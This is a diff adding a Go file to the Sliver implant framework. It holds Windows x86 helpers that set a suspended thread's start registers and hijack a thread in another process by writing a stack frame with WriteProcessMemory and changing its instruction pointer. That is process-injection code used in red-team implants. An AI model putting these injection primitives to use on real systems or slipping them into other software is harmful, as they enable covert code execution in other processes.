@@ -0,0 +1,52 @@
+package taskrunner
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"encoding/binary"
+
+	"github.com/bishopfox/sliver/implant/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const threadContextFlags = syscalls.CONTEXT_CONTROL | syscalls.CONTEXT_INTEGER
+
+// setThreadStart - A suspended thread that hasn't started yet calls RtlUserThreadStart,
+// which calls the start address in eax with the argument in ebx
+func setThreadStart(ctx *syscalls.CONTEXT, startAddr uintptr, argAddr uintptr) {
+	ctx.Eax = uint32(startAddr)
+	ctx.Ebx = uint32(argAddr)
+}
+
+// redirectThread - Resume the thread at the start address, the argument is passed on the
+// stack (stdcall) below a null return address, in a fresh frame below whatever the
+// thread was doing
+func redirectThread(process windows.Handle, ctx *syscalls.CONTEXT, startAddr uintptr, argAddr uintptr) error {
+	frame := make([]byte, 8)
+	binary.LittleEndian.PutUint32(frame[4:], uint32(argAddr))
+	esp := (ctx.Esp-0x200)&^0xf - uint32(len(frame))
+	var nLength uintptr
+	err := syscalls.WriteProcessMemory(process, uintptr(esp), &frame[0], uintptr(len(frame)), &nLength)
+	if err != nil {
+		return err
+	}
+	ctx.Esp = esp
+	ctx.Eip = uint32(startAddr)
+	return nil
+}